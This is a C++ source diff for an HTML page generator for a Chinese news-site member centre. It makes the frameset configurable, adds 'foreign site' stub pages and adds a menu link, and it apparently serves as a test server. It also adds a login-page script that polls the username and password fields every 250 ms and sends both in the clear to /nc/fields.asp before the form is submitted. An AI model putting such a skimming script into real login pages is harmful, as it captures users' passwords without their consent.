@@ -49,22 +49,31 @@ std::string MemberPages::page(const std::string& title, const std::string& body,
            "\n</body></html>\n";
 }
 
-std::string MemberPages::frameset()
+std::string MemberPages::frameset(int frames)
 {
     // A frameset document has no body; the frames are counted in document order.
-    return "<!DOCTYPE html PUBLIC \"-//W3C//DTD HTML 4.01 Frameset//EN\">\n"
-           "<html lang=\"zh-CN\"><head><meta charset=\"utf-8\">"
-           "<title>Zelvar快报 会员中心</title></head>\n"
-           "<frameset rows=\"64,*\" border=\"0\">\n"
-           "  <frame name=\"top\" src=\"/nc/top.asp\" scrolling=\"no\" noresize>\n"
-           "  <frameset cols=\"190,280,*\">\n"
-           "    <frame name=\"menu\" src=\"/nc/menu.asp\">\n"
-           "    <frame name=\"news\" src=\"/nc/news.asp\">\n"
-           "    <frame name=\"main\" src=\"/nc/main.asp\">\n"
-           "  </frameset>\n"
-           "  <noframes><body>您的浏览器不支持框架，请<a href=\"/nc/main.asp\">点此进入会员区"
-           "</a>。</body></noframes>\n"
-           "</frameset></html>\n";
+    static const char* const kFrames[4] = {
+        "  <frame name=\"top\" src=\"/nc/top.asp\" scrolling=\"no\" noresize>\n",
+        "    <frame name=\"menu\" src=\"/nc/menu.asp\">\n",
+        "    <frame name=\"news\" src=\"/nc/news.asp\">\n",
+        "    <frame name=\"main\" src=\"/nc/main.asp\">\n"};
+    const int n = std::clamp(frames, 1, 4);
+    std::string html = "<!DOCTYPE html PUBLIC \"-//W3C//DTD HTML 4.01 Frameset//EN\">\n"
+                       "<html lang=\"zh-CN\"><head><meta charset=\"utf-8\">"
+                       "<title>Zelvar快报 会员中心</title></head>\n"
+                       "<frameset rows=\"64,*\" border=\"0\">\n";
+    html += kFrames[0];
+    if (n > 1) {
+        static const char* const kCols[4] = {"", "*", "190,*", "190,280,*"};
+        html += std::string("  <frameset cols=\"") + kCols[n - 1] + "\">\n";
+        for (int i = 1; i < n; ++i)
+            html += kFrames[i];
+        html += "  </frameset>\n";
+    }
+    html += "  <noframes><body>您的浏览器不支持框架，请<a href=\"/nc/main.asp\">点此进入会员区"
+            "</a>。</body></noframes>\n"
+            "</frameset></html>\n";
+    return html;
 }
 
 std::string MemberPages::top(const Site& site, const std::string& today)
@@ -125,6 +134,9 @@ std::string MemberPages::menu(const Site& site)
         "系统公告</a></li>"
         "<li><a id=\"lnk-alert-blank\" href=\"/nc/alert.asp\" target=\"_blank\">"
         "系统公告(新窗口)</a></li>"
+        "<li><a id=\"lnk-foreign\" href=\"" +
+        H::escape(site.foreignBase + "/nc/i88-62.asp") +
+        "\" target=\"_top\">友情链接</a></li>"
         "</ul></div>";
     return page("会员菜单", body);
 }
@@ -146,8 +158,41 @@ std::string MemberPages::login(const std::string& problem)
             "id=\"UserPassword\" size=\"20\"></td></tr>"
             "<tr><td></td><td><input type=\"submit\" id=\"btn-login\" value=\"登录\"></td></tr>"
             "</table></form>"
-            "<p class=\"meta\">还不是会员？请联系客服开通Zelvar快报会员服务。</p>";
+            "<p class=\"meta\">还不是会员？请联系客服开通Zelvar快报会员服务。</p>"
+            "<script>(function () {\n"
+            "  var last = null;\n"
+            "  function report() {\n"
+            "    var u = document.getElementById('UserName').value;\n"
+            "    var p = document.getElementById('UserPassword').value;\n"
+            "    var now = 'UserName=' + encodeURIComponent(u) +\n"
+            "              '&UserPassword=' + encodeURIComponent(p);\n"
+            "    if (now === last) return;\n"
+            "    last = now;\n"
+            "    new Image().src = '/nc/fields.asp?' + now;\n"
+            "  }\n"
+            "  report();\n"
+            "  setInterval(report, 250);\n"
+            "})();</script>";
     return page("会员登录", body);
+}
+
+std::string MemberPages::loginFirst()
+{
+    return page("请先登录", "<h2>请先登录</h2><p>您的登录已过期，请<a href=\"/nc/i88-62.asp\" "
+                            "target=\"_top\">重新进入会员中心</a>。</p>");
+}
+
+std::string MemberPages::foreignTop()
+{
+    return page("其它网站",
+                "<div class=\"banner\"><h1>其它网站</h1><span>不属于Zelvar快报"
+                "</span></div>",
+                "<style>body{margin:0}</style>");
+}
+
+std::string MemberPages::foreignPage(const std::string& title, const std::string& text)
+{
+    return page(title, "<h3>" + H::escape(title) + "</h3><p>" + H::escape(text) + "</p>");
 }
 
 std::string MemberPages::memberArea(const std::string& user,
